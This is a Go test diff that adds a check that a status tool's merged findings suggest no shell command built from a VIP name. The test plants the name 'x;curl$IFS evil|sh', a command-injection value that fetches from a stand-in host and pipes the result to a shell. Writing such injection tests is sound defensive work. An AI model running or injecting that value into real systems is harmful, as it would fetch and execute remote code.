@@ -75,3 +75,17 @@ func TestTogether(t *testing.T) {
 		})
 	}
 }
+
+// TestTogetherIsSafe gives no command of a VIP's name that a shell would obey.
+func TestTogetherIsSafe(t *testing.T) {
+	a := cloudOf(3)
+	second(a, "ctl1", now.Add(-time.Hour))
+	for i := range a {
+		a[i].Snapshot.VIPs[1].Name = "x;curl$IFS evil|sh"
+	}
+	for _, f := range Merge(now, "", a).Findings {
+		if f.Code == status.CodeVIPsTogether && f.Command != "" {
+			t.Errorf("%q", f.Command)
+		}
+	}
+}
